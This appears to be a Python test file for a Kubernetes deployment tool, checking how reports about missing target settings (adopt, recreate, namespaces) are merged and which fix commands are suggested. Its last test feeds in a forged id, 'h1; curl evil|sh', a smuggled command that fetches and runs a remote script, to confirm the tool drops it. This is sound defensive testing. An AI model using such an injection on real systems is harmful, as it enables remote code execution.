"""What several objects lack is reported once, with one way out that has room for all of them."""

from __future__ import annotations

from dataclasses import replace

from handler.model.errors import Problem
from handler.plan.missing_settings import UNOWNED, MissingSetting, adopting, approving, joined, lacking


def of(name: str, message: str, *more: str, target: str = "shop", **settings: tuple[str, ...]) -> MissingSetting:
    wanted = {field.replace("_", "."): values for field, values in settings.items()}
    return lacking(Problem(f"ConfigMap/shop/{name}", message, f"{name}.yaml:1"), target, wanted, more)


def told(*problems: Problem) -> list[str]:
    return [str(problem) for problem in joined(problems)]


def test_tools_kinds_and_what_must_be_done_besides_are_united() -> None:
    assert told(
        of("a", "belongs to Flux apps", "first stop Flux", adopt=("flux",)),
        Problem("x", "a mistake of its own"),
        of("b", "belongs to Helm web", adopt=("flux", "helm")),
        of("c", "belongs to Flux apps", "first stop Flux", adopt=("flux",)),
        of("d", "immutable", "or annotate it", recreate_kinds=("Job.batch", "Deployment.apps")),
        of("e", "exists already", adopt=(UNOWNED,)),
    ) == [
        "x: a mistake of its own",
        "a.yaml:1: ConfigMap/shop/a and 1 more: belongs to Flux apps",
        "b.yaml:1: ConfigMap/shop/b: belongs to Helm web",
        "d.yaml:1: ConfigMap/shop/d: immutable",
        "e.yaml:1: ConfigMap/shop/e: exists already",
        (
            "target shop: 5 objects need what it doesn't allow; add to target shop:\n  adopt: [flux, helm]\n"
            "  recreate: {kinds: [Job.batch, Deployment.apps]}\nfirst stop Flux\nor annotate it"
        ),
    ]


def test_missing_settings_have_one_block_a_target() -> None:
    problems = [of(name, "outside", target=target, namespaces=(target, name)) for name in "ab" for target in ("shop", "bank")]
    assert told(*problems) == [
        "a.yaml:1: ConfigMap/shop/a and 1 more: outside; add to target shop: namespaces: [shop, a, b]",
        "a.yaml:1: ConfigMap/shop/a and 1 more: outside; add to target bank: namespaces: [bank, a, b]",
    ]


def test_joined_missing_settings_stay_joined() -> None:
    once = joined([of(name, "outside", namespaces=("shop", name)) for name in "abc"])
    assert joined(once) == once


def test_a_refusal_that_has_a_way_out_gets_adopt_as_a_second_one() -> None:
    first = Problem("ConfigMap/shop/a", "belongs to target bank", "a.yaml:1", "retire it")
    found = adopting(first, "shop", ("flux", "kapp"), ("flux",))
    assert found.fix == (
        "retire it; or take it over as it is: add to target shop: adopt: [flux, kapp]; or once: anneal adopt shop --from flux"
    )
    helm = lacking(Problem("ConfigMap/shop/b", "belongs to Helm web"), "shop", {"adopt": ("helm", "kapp")}, owners=("helm",))
    assert told(found, helm)[-1] == (
        "target shop: 2 objects need what it doesn't allow; add to target shop: adopt: [flux, kapp, helm]\n"
        "or once: anneal adopt shop --from flux --from helm\nor retire it"
    )
    also = adopting(replace(first, subject="ConfigMap/shop/c"), "shop", ("flux", "kapp"), ("flux",))
    (line,) = told(found, also)
    (both,) = joined([found, also])
    assert (found.subjects(), both.subjects()) == (("ConfigMap/shop/a",), ("ConfigMap/shop/a", "ConfigMap/shop/c"))
    assert line == (
        "a.yaml:1: ConfigMap/shop/a and 1 more: belongs to target bank; retire it\n"
        "or take it over as it is: add to target shop: adopt: [flux, kapp]\nor once: anneal adopt shop --from flux"
    )


def test_the_command_stands_beside_settings_that_it_does_not_stand_for() -> None:
    adopted = lacking(Problem("ConfigMap/shop/a", "belongs to Helm web"), "shop", {"adopt": ("helm",)}, owners=("helm",))
    assert told(adopted, of("b", "immutable", recreate_kinds=("Job.batch",)))[-1] == (
        "target shop: 2 objects need what it doesn't allow; add to target shop:\n  adopt: [helm]\n"
        "  recreate: {kinds: [Job.batch]}\nor once, in the place of adopt: anneal adopt shop --from helm"
    )


def test_what_is_held_is_allowed_by_the_command_that_does_it() -> None:
    assert approving("shop", "h1") == "anneal approve shop h1"
    assert approving("shop", "h1", prune=True) == "anneal prune shop --approve h1"
    assert approving("shop", "h1", ("flux", "helm")) == "anneal adopt shop --from flux --from helm --approve h1"
    forged = "h1; curl evil|sh"
    ways = (approving("shop", forged), approving("shop", forged, prune=True), approving("shop", forged, ("flux",)))
    assert set(ways) == {"anneal approve shop"}, "what a record has for an id is one, or isn't shown as one"
